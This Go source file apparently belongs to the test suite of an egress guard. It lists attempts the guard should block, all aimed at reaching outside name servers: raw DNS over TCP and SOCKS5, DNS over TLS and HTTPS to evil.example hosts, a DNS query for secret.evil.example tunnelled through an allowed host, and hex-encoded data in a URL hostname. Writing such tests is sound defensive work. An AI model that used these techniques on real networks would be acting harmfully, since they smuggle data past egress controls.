package egress

import (
	"strings"

	"go.cordon.dev/cordon/guard/egress/policy"
)

// nameServers ask for names past Cordon's own name server.
func nameServers() []escape {
	// A question for secret.evil.example, as it is sent by TCP.
	const question = "\x00\x25\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x07example\x00\x00\x01\x00\x01"
	return []escape{
		{"a name server by TCP, through the proxy", "connect", connects("203.0.113.66:53"), policy.ReasonDefaultPolicy},
		{"a name server by TCP, by SOCKS5", "socks5", socksTo("203.0.113.66", 53), policy.ReasonDefaultPolicy},
		{"a name server by TLS", "connect", connects("dns.evil.example:853"), policy.ReasonDefaultPolicy},
		{"a name server by HTTPS", "connect", connects("doh.evil.example:443"), policy.ReasonDefaultPolicy},
		{"a question to an allowed host in the clear", "tunnel", inside("allowed.example", 80, question), policy.ReasonProtocol},
		{"a question in a URL's host", "http", wants("http://" + strings.Repeat("0a", 30) + ".evil.example/"), policy.ReasonDefaultPolicy},
	}
}
